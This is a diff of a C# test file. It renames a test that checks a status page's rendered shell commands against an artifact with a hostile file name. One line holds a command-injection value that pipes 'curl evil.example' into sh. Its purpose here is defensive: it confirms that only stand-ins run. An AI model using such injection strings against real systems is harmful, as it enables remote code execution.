@@ -112,7 +112,7 @@ public sealed partial class ShellCommandTests(PortalFactory portal) : IClassFixt
 
     /// <summary>The incident page's own rendering of a published release with a hostile file name, copied as a watcher would.</summary>
     [Fact]
-    public async Task The_command_the_incident_page_shows_for_a_hostile_artifact_runs_only_the_stand_ins()
+    public async Task The_command_the_public_page_shows_for_a_hostile_artifact_runs_only_the_stand_ins()
     {
         var scenario = await ApiScenario.CreateAsync(portal, count: 2);
         var url = "https://example.org/" + Uri.EscapeDataString("x'; curl evil.example|sh; echo '$(touch pwned)");
@@ -128,7 +128,7 @@ public sealed partial class ShellCommandTests(PortalFactory portal) : IClassFixt
         })), HttpStatusCode.Created);
         await Rest.OkAsync(await scenario.Admin.PostAsync(Rest.Path($"/api/v1/releases/{draft.GetProperty("id").GetGuid()}/publish"), null));
 
-        var html = await portal.CreateHttpsClient().GetStringAsync(Rest.Path($"/incidents/{scenario.IncidentId}"));
+        var html = await portal.CreateHttpsClient().GetStringAsync(Rest.Path($"/status/{scenario.IncidentId}"));
         var commands = VerifyCommand().Matches(html).Select(m => WebUtility.HtmlDecode(m.Groups[1].Value)).ToList();
 
         Assert.Equal(2, commands.Count);
